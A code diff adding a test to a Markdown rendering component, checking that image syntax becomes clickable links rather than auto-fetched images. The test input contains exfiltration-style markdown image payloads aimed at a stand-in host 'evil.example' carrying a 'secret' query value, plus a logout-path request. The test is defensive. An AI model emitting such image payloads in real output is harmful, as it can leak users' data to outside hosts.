@@ -20,6 +20,22 @@ describe('Markdown', () => {
     expect(html).toContain('<strong>bold</strong>');
     expect(html).not.toMatch(/<img|<script|onerror|javascript:/i);
   });
+
+  it('shows an image as a link the browser does not fetch by itself', () => {
+    const html = renderToStaticMarkup(
+      <Markdown
+        text={
+          '![chart](https://evil.example/x.png?secret=42) ![local](/auth/logout) ![](//evil.example/y) ![dot](data:image/png;base64,iVBORw0KGgo=)'
+        }
+      />,
+    );
+    expect(html).not.toContain('<img');
+    expect(html).toContain(
+      'href="https://evil.example/x.png?secret=42" target="_blank" rel="noopener noreferrer">chart</a>',
+    );
+    expect(html).toContain('>//evil.example/y</a>');
+    expect(html).toContain('dot');
+  });
 });
 
 describe('MessageList', () => {
